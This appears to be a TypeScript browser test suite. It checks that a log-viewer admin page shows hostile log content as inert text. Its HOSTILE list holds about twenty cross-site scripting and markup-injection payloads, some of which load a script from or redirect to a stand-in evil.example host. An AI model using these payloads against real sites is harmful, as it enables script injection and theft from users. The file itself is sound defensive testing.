import assert from 'node:assert/strict';

import { eventually } from '../../../harness/support/eventually.js';
import { emulatedFirestore, newTenant } from '../../../harness/support/firestore.js';
import { describeInBrowser, newVisitor, picture, type Visitor } from './browser.js';
import { newReader, send } from './people.js';

/** Each would call alert, load something or change the page if it were read as markup. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '"><script src=https://evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<body onload=alert(1)>',
  '<math><mtext></table><mglyph><style><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<style>*{display:none!important}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '</title></textarea></noscript><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '\u202Egnp.exe\u202C \u0000\u001B[31mred\u0007',
  '[REDACTED<img src=x onerror=alert(1)>]',
] as const;

describeInBrowser('hostile logs', () => {
  const firestore = emulatedFirestore();
  const tenant = newTenant();
  let admin: Visitor;

  before(async () => {
    await send(
      tenant,
      ...HOSTILE.map((text, index) => ({
        log_id: `hostile-${index}`,
        text,
        attributes: { [`<b onclick=alert(1)>${index}`]: text },
      })),
    );
    // What no intake lets through, stored as if one had.
    await firestore.doc(`tenants/${tenant}/processed_logs/<img src=x onerror=alert(1)>`).set({
      source: '<img src=x onerror=alert(1)>',
      severity: '"><img src=x onerror=alert(1)>',
      modified_data: { toString: '<img src=x onerror=alert(1)>' },
      attributes: '<img src=x onerror=alert(1)>',
      redactions: { '<img src=x onerror=alert(1)>': 1 },
      processed_at: new Date(),
      time: new Date(),
      shard: 0,
    });
    await firestore.doc(`tenants/${tenant}/dead_letters/x`).set({
      reason: '<img src=x onerror=alert(1)>',
      detail: '<img src=x onerror=alert(1)>',
      payload: '<img src=x onerror=alert(1)>',
      log_id: '<img src=x onerror=alert(1)>',
      dead_at: new Date(),
    });
    admin = await newReader(tenant, 'admin');
  });
  after(() => admin.context.close());
  after(() => firestore.terminate());

  /** The page has only its own scripts, pictures and links, and has not navigated away. */
  async function assertUntouched(): Promise<void> {
    const { page, complaints } = admin;
    const foreign = await page.evaluate(() =>
      [...document.querySelectorAll('*')]
        .filter(
          (element) =>
            ['SVG', 'MATH', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'BASE', 'TEXTAREA'].includes(
              element.tagName.toUpperCase(),
            ) ||
            element.hasAttribute('http-equiv') ||
            element.getAttributeNames().some((name) => name.startsWith('on')) ||
            ['src', 'href'].some((name) => {
              const address = element.getAttribute(name);
              return address !== null && new URL(address, location.href).origin !== location.origin;
            }),
        )
        .map((element) => element.outerHTML),
    );
    assert.deepEqual(foreign, []);
    assert.equal(new URL(page.url()).origin, new URL(process.env['PAGE_URL'] ?? '').origin);
    assert.deepEqual(complaints, []);
  }

  it('would be reported: a blocked attempt is a policy violation', async () => {
    const { page, context, complaints } = await newVisitor();
    await page.goto('/');
    await page.evaluate(() => {
      document.body.setAttribute('style', 'color: red');
      const script = document.createElement('script');
      script.textContent = 'alert(1)';
      document.body.append(script);
    });
    await eventually('both complaints', () => (complaints.length >= 2 ? true : undefined));
    assert.equal(complaints.length, 2);
    await context.close();
  });

  it('are shown as the text that they are, in the list and in full', async () => {
    const { page } = admin;
    const last = HOSTILE.length - 1;
    await page.locator(`[data-id=hostile-${last}]`).waitFor();
    await picture(page, 'hostile');
    await page.getByText('21 loaded', { exact: true }).waitFor();
    for (const [index, text] of HOSTILE.entries()) {
      await page.locator(`[data-id=hostile-${index}]`).click();
      const details = page.getByRole('complementary');
      await details.getByRole('heading', { name: `hostile-${index}`, exact: true }).waitFor();
      // A carriage return or NUL never comes back unchanged from the page's text.
      const shown = await details.locator('.text').first().textContent();
      const sent = await firestore.doc(`tenants/${tenant}/processed_logs/hostile-${index}`).get();
      assert.equal(shown, sent.get('modified_data'));
      if (!/evil|https/.test(text)) assert.equal(shown, text);
    }
    // Direction controls are shown, and affect nothing around them.
    assert.deepEqual(
      await page
        .locator('[data-id=hostile-18] bdi')
        .evaluateAll((found) => found.map((element) => element.getAttribute('data-code'))),
      ['U+202E', 'U+202C'],
    );
    await assertUntouched();
  });

  it('harm nothing as ids, fields and kinds either', async () => {
    const { page } = admin;
    const id = '<img src=x onerror=alert(1)>';
    await page.goto(`/?log=${encodeURIComponent(id)}`);
    await page.getByRole('complementary').getByRole('heading', { name: id }).waitFor();
    await assertUntouched();
  });

  it('harm nothing as dead letters either', async () => {
    const { page } = admin;
    await page.goto('/?view=dead-letters');
    await page.locator('summary').click();
    await page.locator('.payload .text').getByText('<img src=x onerror=alert(1)>').waitFor();
    await assertUntouched();
  });

  it('harm nothing as a query of 100 KB, nested brackets or odd names either', async () => {
    const { page } = admin;
    await page.goto('/');
    const box = page.getByLabel('Search', { exact: true });
    const fault = page.getByRole('alert').filter({ hasText: 'At character' });
    for (const query of ['word '.repeat(20_000), '('.repeat(2_000), '"<img src=x>"=']) {
      await box.fill(query);
      await box.press('Enter');
      await fault.waitFor();
      assert.equal(await page.locator('.log-row').count(), 0);
      await assertUntouched();
      await box.fill('');
      await page.locator('[data-id=hostile-0]').waitFor();
    }
  });

  it('harm nothing through the address either', async () => {
    const { page } = admin;
    const hostile = encodeURIComponent('"><img src=x onerror=alert(1)>');
    await page.goto(`/?tenant=${hostile}&q=${hostile}&log=${hostile}&severity=${hostile}`);
    await page.getByText('This belongs to another tenant').first().waitFor();
    await assertUntouched();
  });
});
